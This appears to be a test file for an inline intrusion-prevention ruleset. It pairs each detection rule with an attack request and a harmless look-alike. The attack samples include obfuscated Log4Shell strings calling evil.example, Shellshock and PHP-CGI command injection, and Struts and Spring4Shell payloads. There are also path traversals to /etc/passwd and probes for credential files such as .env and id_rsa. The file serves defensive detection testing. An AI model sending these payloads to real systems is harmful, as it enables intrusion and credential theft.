"""Every shipped rule: its attack matches, its benign look-alike matches no
shipped rule at all."""

from __future__ import annotations

import re

import pytest
from rules_views import Pkt, Req, http_hits, ip, req, sids

from ips_inline.rules import DEFAULT_RULES, Variables, load

RS = load([], True, Variables.build())

# sid -> (attack, benign look-alike)
CASES: dict[int, tuple[Req, Req]] = {
    1100001: (req("/item?id=1", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"),
              req("/blog/how-sqlmap-works")),
    1100002: (req("/", ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
              req("/", ua="Mozilla/5.0 (X11; Linux) nikto-free-browser/1.0")),
    1100003: (req("/", ua="Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
              req("/", ua="Mozilla/5.0 (compatible; Nucleus/3.2; +https://nucleus.example)")),
    1100004: (req("/", ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
              req("/", ua="Mozilla/5.0 MassCanvas/2.1")),
    1100005: (req("/", ua="Mozilla/5.0 zgrab/0.x"), req("/", ua="zgrabber-photos/4.0 (Android)")),
    1100006: (req("/admin", ua="gobuster/3.6"), req("/", ua="gobusters-fanclub-app/1.0")),
    1100007: (req("/", ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                      "https://nmap.org/book/nse.html)"),
              req("/download/nmap-7.95.tar.bz2")),
    1100008: (req("/wp-json/", ua="WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)"),
              req("/blog/wpscan-vs-other-scanners")),
    1100009: (req("/", ua="DirBuster-1.0-RC1 (http://www.owasp.org/index.php/"
                      "Category:OWASP_DirBuster_Project)"),
              req("/", ua="Mozilla/5.0 (DirBuster-compatible; research-crawler)")),
    1100010: (req("/FUZZ", ua="Fuzz Faster U Fool v2.1.0-dev"),
              req("/blog/fuzz-faster-with-ffuf")),
    1100011: (req("/", ua="feroxbuster/2.10.0"), req("/tools/feroxbuster")),
    1100012: (req("/login", ua="Mozilla/4.0 (Hydra)"),
              req("/", ua="HydraBrowser/2.0 (Hydra Labs)")),
    1100050: (req("/.env"), req("/environment")),
    1100051: (req("/.git/config"), req("/.github/workflows/ci.yml")),
    1100052: (req("/.aws/credentials"), req("/docs/aws/credentials-howto")),
    1100053: (req("/wp-config.php.bak"), req("/wp-config.php")),
    1100054: (req("/.htpasswd"), req("/docs/htaccess-guide.html")),
    1100055: (req("/home/deploy/.ssh/authorized_keys"), req("/blog/ssh-hardening")),
    1100056: (req("/id_rsa"), req("/id_rsa_howto.html")),
    1100057: (req("/.svn/entries"), req("/.well-known/security.txt")),
    1100058: (req("/.DS_Store"), req("/stores/ds-store-locator")),
    1100059: (req("/backup.sql.gz"), req("/docs/sql-tutorial.html")),
    1100060: (req("/actuator/env"), req("/actuator/health")),
    1100061: (req("/server-status"), req("/blog/server-status-page-design")),
    1100100: (req("/phpMyAdmin/index.php"), req("/blog/phpmyadmin-tutorial.html")),
    1100101: (req("/wp-admin/setup-config.php"), req("/wp-admin/admin-ajax.php")),
    1100102: (req("/manager/html"), req("/manager/htmlhelp.html")),
    1100103: (req("/adminer.php"), req("/docs/adminer-guide.html")),
    1100152: (req("/xmlrpc.php", "POST", body=b"<?xml version=\"1.0\"?><methodCall>"
                  b"<methodName>system.multicall</methodName></methodCall>"),
              req("/xmlrpc.php", "POST", body=b"<?xml version=\"1.0\"?><methodCall>"
                  b"<methodName>pingback.ping</methodName></methodCall>")),
    1100200: (req("/search?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
              req("/blog/log4j-jndi-lookup-explained?topic=jndi")),
    1100201: (req("/", ua="${jndi:ldap://evil.example:1389/a}"),
              req("/", X_Template="Hello ${user.name}: welcome")),
    1100202: (req("/", Cookie="session=${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}"),
              req("/", Cookie="pref=${theme}; lang=en")),
    1100203: (req("/api", "POST", body=b'{"user": "${j${k8s:k5:-ND}i:dns://evil.example/x}"}'),
              req("/api", "POST", body=b'{"note": "Log4j: never log ${jndi lookups} unescaped"}')),
    1100204: (req("/search?q=%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D"),
              req("/search?q=%2524%257Bprice%257D")),
    1100205: (req("/", X_Api_Version="%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
              req("/", X_Api_Version="%24%7Bversion%7D")),
    1100206: (req("/form", "POST", body=b"name=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
              req("/form", "POST", body=b"price=%24%7Bamount%7D&currency=EUR")),
    1100210: (req("/cgi-bin/status", ua="() { :; }; /bin/bash -c 'id'"),
              req("/", X_Note="call f() { later }")),
    1100211: (req("/cgi-bin/test.cgi", Cookie="() { _; } >_[$($())] { id; }"),
              req("/", Cookie="js=function() { return 1; }")),
    1100220: (req("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
                  "POST", body=b"<?php system('id'); ?>"),
              req("/docs/php-ini?setting=allow_url_include")),
    1100221: (req("/index.php?-s"), req("/list?-sort")),
    1100222: (req("/index.php?%ADs"), req("/list?%ADsort")),
    1100230: (req("/app?class.module.classLoader.resources.context.parent.pipeline.first"
                  ".pattern=x"),
              req("/docs/java/classloader-module-guide")),
    1100231: (req("/app", "POST", body=b"class%2Emodule%2EclassLoader.resources.context.parent"
                  b".pipeline.first.suffix=.jsp"),
              req("/app", "POST", body=b"text=the+class+module+and+its+classLoader")),
    1100240: (req("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "POST", body=b"echo;id"),
              req("/files/report%2epdf")),
    1100241: (req("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh"), req("/files/%32%65-report")),
    1100242: (req("/vpn/../vpns/portal/scripts/newbm.pl"), req("/vpn/index.html")),
    1100243: (req("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
              req("/tmui/login.jsp")),
    1100244: (req("/mgmt/tm/util/bash", "POST", body=b'{"command":"run","utilCmdArgs":"-c id"}'),
              req("/mgmt/tm/sys/version")),
    1100245: (req("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang."
                  "Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%7D/"),
              req("/%24%7Bname%7D/profile")),
    1100246: (req("/upload.action", "POST", Content_Type="%{(#_='multipart/form-data')."
                  "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
              req("/upload", "POST", Content_Type="text/plain; charset=%{charset}")),
    1100247: (req("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST",
                  body=b"<?php echo md5('x'); ?>"),
              req("/docs/phpunit/getting-started.html")),
    1100248: (req("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
                  "&vars[0]=md5&vars[1][]=x"),
              req("/blog/php-call_user_func-explained")),
    1100249: (req("/_ignition/execute-solution", "POST", body=b'{"solution":"x"}'),
              req("/_ignition/health-check")),
    1100250: (req("/GponForm/diag_Form?images/", "POST",
                  body=b"XWebPageName=diag&diag_action=ping"),
              req("/gpon/faq")),
    1100251: (req("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
              req("/remote/fgt_lang?lang=en")),
    1100252: (req("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/"
                  "guacamole/"),
              req("/dana-na/auth/url_default/welcome.cgi")),
    1100253: (req("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/"
                  "autodiscover.json%3F@evil.example"),
              req("/autodiscover/autodiscover.json?Email=user@example.com&Protocol=ActiveSync")),
    1100254: (req("/console/css/%252e%252e%252fconsole.portal"), req("/console/console.portal")),
    1100255: (req("/user/register?element_parents=account/mail/%23value&ajax_form=1", "POST",
                  body=b"form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec"
                  b"&mail[#type]=markup&mail[#markup]=id"),
              req("/node/add", "POST", body=b"body=post_render+hooks+in+drupal+explained")),
    1100256: (req("/index.php", "POST", body=b"routestring=ajax/render/widget_php"
                  b"&widgetConfig[code]=echo shell_exec('id');"),
              req("/index.php", "POST", body=b"routestring=ajax/render/widget_tabbedcontainer")),
    1100257: (req("/api/v1/totp/user-backup-code/../../license/keys-status/x"),
              req("/api/v1/totp/user-backup-code")),
    1100258: (req("/SDK/webLanguage", "PUT", body=b"<?xml version=\"1.0\"?><language>$(id>webLib/x)"
                  b"</language>"),
              req("/SDK/webLanguage", "PUT",
                  body=b"<?xml version=\"1.0\"?><language>en</language>")),
    1100259: (req("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"),
              req("/cgi-bin/luci/")),
}
RATE_RULES = {1100151, 1100153}  # tested below, with sequences


def test_every_shipped_rule_loads_and_is_tested() -> None:
    text = DEFAULT_RULES.read_text()
    shipped = {int(s) for s in re.findall(r"\bsid:(\d+);", text)}
    assert RS.skipped == []
    assert RS.loaded == len(shipped)
    assert shipped == set(CASES) | RATE_RULES
    assert all(1100001 <= s <= 1100999 for s in shipped)


def test_every_shipped_rule_has_a_comment() -> None:
    lines = DEFAULT_RULES.read_text().splitlines()
    for i, line in enumerate(lines):
        if line and not line.startswith("#"):
            assert lines[i - 1].startswith("# "), f"rule on line {i + 1} has no comment"


@pytest.mark.parametrize("sid", sorted(CASES))
def test_attack_matches(sid: int) -> None:
    attack, _ = CASES[sid]
    assert sid in sids(http_hits(RS, attack))


@pytest.mark.parametrize("sid", sorted(CASES))
def test_benign_look_alike_matches_nothing(sid: int) -> None:
    _, benign = CASES[sid]
    assert http_hits(RS, benign) == []


@pytest.mark.parametrize("payload", [
    "${jndi:ldap://x/a}", "${jNdI:rmi://x/a}", "${${lower:j}ndi:ldap://x/a}",
    "${${upper:j}${upper:n}${lower:d}i:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:dns://x/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}", "${j${k8s:k5:-ND}i:ldap://x/a}",
    "${${lower:${upper:j}}ndi:ldap://x/a}", "${jndi${date:':'}ldap://x/a}",
])
def test_log4shell_obfuscations_in_a_header(payload: str) -> None:
    assert 1100201 in sids(http_hits(RS, req("/", Referer=payload)))


@pytest.mark.parametrize("text", [
    "${user.name}", "Hello ${name}: welcome", "${dn}:x", "$ {jndi:ldap}", "{jndi:ldap://x}",
    "see https://logging.apache.org/log4j/2.x/manual/lookups.html#JndiLookup",
])
def test_log4shell_prose_and_templates_pass(text: str) -> None:
    assert http_hits(RS, req("/", X_Text=text)) == []


def test_shipped_hits_carry_the_rule_fields() -> None:
    hit = http_hits(RS, CASES[1100200][0])[0]
    assert (hit.sid, hit.rev, hit.action, hit.classtype) == (1100200, 1, "drop", "attempted-admin")
    assert hit.category == "Attempted Administrator Privilege Gain" and hit.severity == 1
    assert hit.metadata == {"cve": ["2021-44228"]}
    assert hit.msg.startswith("IPS-INLINE EXPLOIT Log4Shell")


def test_no_shipped_rule_bans_on_bare_syns() -> None:
    """SYNs can be forged in anyone's name: connection-rate brute force is the
    brute_force detector's (kernel-proven handshakes), not a rule's."""
    attacker = Pkt(dport=22, flags=0x02, src=ip("198.51.100.9"))
    assert all(RS.match_packet(attacker, None, float(t)) == [] for t in range(50))

def test_ssh_logins_at_a_human_pace_pass() -> None:
    rs = load([], True, Variables.build())
    user = Pkt(dport=22, flags=0x02, src=ip("198.51.100.20"))
    assert all(rs.match_packet(user, None, t * 7.0) == [] for t in range(30))


def test_wordpress_login_brute_force() -> None:
    rs = load([], True, Variables.build())
    guess = req("/wp-login.php", "POST", body=b"log=admin&pwd=123456")
    got = [sids(http_hits(rs, guess, now=float(t))) for t in range(11)]
    assert got[:10] == [[]] * 10 and got[10] == [1100151]
    assert http_hits(rs, req("/wp-login.php"), now=11.0) == []  # GET the form: fine


def test_login_form_brute_force_and_a_normal_login() -> None:
    rs = load([], True, Variables.build())
    login = req("/account/login", "POST", body=b"user=a&password=b")
    assert all(http_hits(rs, login, now=float(t)) == [] for t in range(30))
    assert sids(http_hits(rs, login, now=30.0)) == [1100153]
    assert http_hits(rs, req("/account/login", "POST"), Pkt(src=ip("203.0.113.99")),
                     now=31.0) == []
    assert http_hits(rs, req("/blog/login-page-design", "POST"), now=32.0) == []


@pytest.mark.parametrize(("sid", "target"), [
    (1100220, "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    (1100220, "/index.php?%2dd+allow_url_include%3d1+%2dd+auto_prepend_file%3dphp://input"),
    (1100221, "/index.php?%2ds"),
    (1100222, "/php-cgi/php-cgi.exe?%ads"),
    (1100240, "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd"),
    (1100050, "/api/.env.production"),
    (1100051, "/.git-credentials"),
])
def test_attack_variants(sid: int, target: str) -> None:
    assert sid in sids(http_hits(RS, req(target)))
